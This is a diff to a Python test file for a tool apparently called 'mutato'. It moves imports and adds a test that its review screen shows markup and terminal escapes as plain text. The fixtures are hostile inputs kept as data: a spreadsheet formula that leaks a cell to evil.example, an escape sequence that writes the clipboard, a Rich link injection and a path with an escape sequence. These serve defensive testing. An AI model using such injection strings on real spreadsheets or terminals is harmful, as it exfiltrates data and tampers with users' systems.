@@ -10,10 +10,10 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from mutato.csv_safety import neutralise, restore
 from mutato.errors import SuiteError
-from mutato.suite_loading import load_suite
-from mutato.terminal import shown
+from mutato.io_safety.csv_safety import neutralise, restore
+from mutato.io_safety.terminal import shown
+from mutato.suite.loading import load_suite
 
 #: Cells a spreadsheet would evaluate, as claims of a suite.
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1+1", "-2+3",
@@ -130,3 +130,42 @@ def test_an_error_naming_a_hostile_path_is_printed_escaped(tmp_path, cli):
     code, _, err = cli("run", tmp_path / "\x1b[2Jsuite.yaml", "-c", "lexical")
     assert code == 2
     assert "\x1b" not in err and "\\x1b[2Jsuite.yaml" in err
+
+
+def test_the_review_screen_shows_markup_and_escapes_as_text(tmp_path):
+    """Rich markup and escape sequences in a suite reach the review app's widgets as plain
+    text: ``[link=…]`` is not a link, ``ESC ]52`` does not write the clipboard."""
+    import asyncio
+
+    from textual.widgets import Static
+
+    from mutato.mutation.mutants import generate_mutants
+    from mutato.review.app import ReviewApp
+    from mutato.review.session import Session
+
+    hostile = "The [link=https://evil.example]Team[/link] plan \x1b]52;c;ZXZpbA==\x07 costs €12."
+    path = tmp_path / "s.jsonl"
+    path.write_text(json.dumps({"id": "c[red]1[/red]", "claim": hostile, "question": "[bold]why[/bold]",
+                                "passages": [hostile + " It does not include SSO."]}) + "\n",
+                    encoding="utf-8")
+    suite = load_suite(path)
+    mutants = [m for m in generate_mutants(suite) if m.original == hostile]
+    assert mutants
+    session = Session.open(suite=suite, mutants=mutants, labels_path=tmp_path / "l.jsonl",
+                           reviewer="ana")
+    seen: dict[str, str] = {}
+
+    async def run() -> None:
+        app = ReviewApp(session)
+        async with app.run_test():
+            for name in ("progress", "question", "original", "mutant", "evidence"):
+                content = app.query_one(f"#{name}", Static).content
+                assert not isinstance(content, str), f"#{name} would be parsed as markup"
+                seen[name] = str(content)
+
+    asyncio.run(run())
+    assert "[bold]why[/bold]" in seen["question"] and "c[red]1[/red]:" in seen["progress"]
+    for name in ("original", "mutant", "evidence"):
+        assert "[link=https://evil.example]Team[/link]" in seen[name]
+        assert "\x1b" not in seen[name] and "\x07" not in seen[name]
+        assert re.search(r"␛\]\d+;c;ZXZpbA==␇", seen[name])  # number_swap may edit the 52
